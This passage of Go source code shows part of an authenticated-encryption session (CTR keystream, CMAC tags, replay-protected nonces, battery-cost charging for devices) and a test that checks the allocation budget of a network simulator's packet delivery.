	if err != nil {
		return nil, err
	}
	info, err := Negotiate(d.Profile, reg)
	if err != nil {
		return nil, err
	}
	s.cost = &deviceMeter{
		dev:  d,
		cost: device.CostModel(d.Profile, info.CyclesPerByte, info.RAMBytes),
	}
	return s, nil
}

func (s *Session) charge(n int) error {
	if s.cost == nil {
		return nil
	}
	if !s.cost.dev.SpendCrypto(s.cost.cost, n) {
		return ErrOutOfEnergy
	}
	return nil
}

// ctrXOR applies the CTR keystream for a nonce.
func (s *Session) ctrXOR(nonce uint64, data []byte) []byte {
	bs := s.blk.BlockSize()
	out := make([]byte, len(data))
	block := make([]byte, bs)
	ks := make([]byte, bs)
	for i := 0; i < len(data); i += bs {
		binary.BigEndian.PutUint64(block[bs-8:], nonce+uint64(i/bs))
		s.blk.Encrypt(ks, block)
		for j := 0; j < bs && i+j < len(data); j++ {
			out[i+j] = data[i+j] ^ ks[j]
		}
	}
	return out
}

func (s *Session) tag(nonce uint64, ct []byte) ([]byte, error) {
	m, err := lwc.NewCMAC(s.blk)
	if err != nil {
		return nil, err
	}
	var nb [8]byte
	binary.BigEndian.PutUint64(nb[:], nonce)
	m.Write(nb[:])
	m.Write(ct)
	return m.Sum(nil)[:s.tagSize], nil
}

// Seal encrypts and authenticates a message: nonce || ct || tag. The
// device battery is charged for the processed bytes.
func (s *Session) Seal(plaintext []byte) ([]byte, error) {
	if err := s.charge(len(plaintext) + s.tagSize); err != nil {
		return nil, err
	}
	s.sendNonce++
	n := s.sendNonce
	ct := s.ctrXOR(n<<20, plaintext)
	t, err := s.tag(n, ct)
	if err != nil {
		return nil, err
	}
	out := make([]byte, 8, 8+len(ct)+len(t))
	binary.BigEndian.PutUint64(out, n)
	out = append(out, ct...)
	return append(out, t...), nil
}

// Open verifies and decrypts, enforcing strictly increasing nonces (replay
// protection — one of the §II-B channel requirements).
func (s *Session) Open(msg []byte) ([]byte, error) {
	if len(msg) < 8+s.tagSize {
		return nil, ErrTooShort
	}
	n := binary.BigEndian.Uint64(msg[:8])
	ct := msg[8 : len(msg)-s.tagSize]
	gotTag := msg[len(msg)-s.tagSize:]
	want, err := s.tag(n, ct)
	if err != nil {
		return nil, err
	}
	if !constEq(gotTag, want) {
		return nil, ErrBadTag
	}
	if n <= s.recvHigh {
		return nil, ErrReplay
	}
	if err := s.charge(len(ct) + s.tagSize); err != nil {
		return nil, err
	}
	s.recvHigh = n
	return s.ctrXOR(n<<20, ct), nil
}

// constEq compares tags in constant time via crypto/subtle; the
// earlier hand-rolled XOR loop is gone so the constant-time property is
// the standard library's, not ours to re-verify.
func constEq(a, b []byte) bool {
	return subtle.ConstantTimeCompare(a, b) == 1
}
