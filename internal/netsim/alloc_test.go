package netsim

import (
	"testing"

	"xlf/internal/sim"
)

// raceEnabled is flipped by alloc_race_test.go: the race runtime
// instruments allocations, so byte-exact AllocsPerRun guards only run
// in regular builds.
var raceEnabled bool

// TestSendDeliverAllocBudget is the dynamic half of the //xlf:hotpath
// contract on Send and deliver: moving one packet end to end costs at
// most the single Event allocation — Send reuses the network's
// long-lived deliverArg closure and a constant event name, and deliver
// (taps, stats, node dispatch) allocates nothing.
func TestSendDeliverAllocBudget(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under -race")
	}

	k := sim.NewKernel(1)
	n := New(k)
	dst := &FuncNode{Address: "lan:sink", Fn: func(*Network, *Packet) {}}
	if err := n.Attach(dst, Link{}); err != nil {
		t.Fatal(err)
	}
	pkt := &Packet{Src: "lan:src", Dst: "lan:sink", Proto: "TLS", Size: 100}

	if a := testing.AllocsPerRun(200, func() {
		n.Send(pkt)
		if !k.Step() {
			t.Fatal("no delivery event")
		}
	}); a > 1 {
		t.Errorf("Send+deliver allocates %.1f per packet, want at most 1 (the Event)", a)
	}
}
